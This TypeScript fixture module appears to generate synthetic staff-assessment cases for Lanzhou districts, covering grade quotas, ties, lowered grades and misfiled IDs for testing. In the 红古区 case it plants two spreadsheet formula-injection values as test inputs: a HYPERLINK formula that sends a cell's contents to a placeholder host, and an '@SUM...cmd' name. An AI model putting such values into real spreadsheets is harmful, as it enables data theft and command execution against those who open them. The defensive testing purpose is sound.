import type { CasePerson } from "./case";
import { edges, scoresIn } from "./scores";
import type { Making } from "./people";
import { graded, peopleOf } from "./people";
import { nextId, slippedId, withOne } from "./special";

/**
 * 城关区: the largest, 60 on the roster with the one who stands in 安宁区 too. 优秀 is over the cap, with 超比例说明 and 批准文号; two were
 * lowered with a reason. One award of last year is in the city's file and not in the district's.
 */
export function chengguan(making: Making): readonly CasePerson[] {
  const people = peopleOf({ letters: "CG", areas: ["酒泉路街道", "张掖路街道", "雁南街道"], grades: { 优秀: 12, 称职: 28, 基本称职: 2, 不称职: 1 }, edges, newcomers: 3, resigned: 1 }, making);
  const lowered = people.filter(({ assessed, usual, leave }) => assessed === "优秀" && leave === undefined && Number(usual) > 90).slice(0, 2).map(({ id }) => id);
  const unpaid = graded(making.invent(), "CG900", "雁南街道", scoresIn("称职", making.chance), { arrived: "2021-01-01", filed: [{ year: 2022, grade: "称职" }, { year: 2023, grade: "称职" }] });
  return [...people.map((one) => (lowered.includes(one.id) ? { ...one, assessed: "称职" as const, reason: "经区委研究，按比例调整" } : one)), unpaid];
}

/** On paper 96.92, three times 92.4, and 90.7. */
const tied = [["96.5", "97.2"], ["93", "92"], ["90", "94"], ["96", "90"], ["90.25", "91"]] as const;

/** 安宁区: 19 graded, quota 3, five of them 优秀 and three of those tied for the last two places; no 批准文号. */
export function anning(making: Making): readonly CasePerson[] {
  const people = peopleOf({ letters: "AN", areas: ["培黎街道", "十里店街道"], grades: { 优秀: 0, 称职: 12, 基本称职: 1, 不称职: 1 } }, making);
  const pasts = [
    { arrived: "2023-01-01", filed: [{ year: 2023, grade: "优秀" as const }] },
    { arrived: "2021-01-01", filed: [{ year: 2022, grade: "基本称职" as const }, { year: 2023, grade: "优秀" as const }] },
    { arrived: "2023-01-01", filed: [{ year: 2023, grade: "称职" as const }] },
  ];
  const top = tied.map(([usual, annual], place) => graded(making.invent(), `AN9${String(place).padStart(2, "0")}`, "银滩路街道", { usual, annual, grade: "优秀" }, pasts[place % pasts.length]!));
  return [...people, ...top];
}

/** 红古区: with the one who was moved there four are graded, one of them 优秀; a formula typed as text in a remark and in a name. */
export function honggu(making: Making): readonly CasePerson[] {
  const people = peopleOf({ letters: "HG", areas: ["海石湾镇"], grades: { 优秀: 1, 称职: 1, 基本称职: 1, 不称职: 0 }, newcomers: 2 }, making);
  const injected = withOne(people, ({ assessed }) => assessed === "称职", { remark: '=HYPERLINK("http://example.invalid/?x="&C5,"点此查看")' });
  return withOne(injected, ({ takesPart }) => !takesPart, { name: "@SUM(1+9)*cmd" });
}

/** 永登县: 核定优秀名额 with its 文号. A score as text; a claim against the district's own file; a claim with nothing on file. */
export function yongdeng(making: Making): readonly CasePerson[] {
  const people = peopleOf({ letters: "YD", areas: ["城关镇", "中堡镇"], grades: { 优秀: 3, 称职: 7, 基本称职: 1, 不称职: 0 }, resigned: 1 }, making);
  const { invent, chance } = making;
  const competent = (staffNumber: string, filed: CasePerson["filed"]) => graded(invent(), staffNumber, "中堡镇", scoresIn("称职", chance), { arrived: "2023-01-01", filed });
  return [
    ...people,
    { ...competent("YD901", [{ year: 2023, grade: "称职" }]), usual: "84分" },
    { ...competent("YD902", [{ year: 2023, grade: "优秀" }]), lastGrade: "称职" },
    { ...competent("YD903", []), lastGrade: "称职" },
  ];
}

/** Somebody of 城关区 under a wrong id in 永登县; of 七里河区 under the next one in 西固区; each under one name. */
export const slipped = (one: CasePerson, staffNumber: string): CasePerson => ({ ...one, id: slippedId(one), staffNumber });
export const nearby = (one: CasePerson, staffNumber: string): CasePerson => ({ ...one, id: nextId(one), staffNumber });
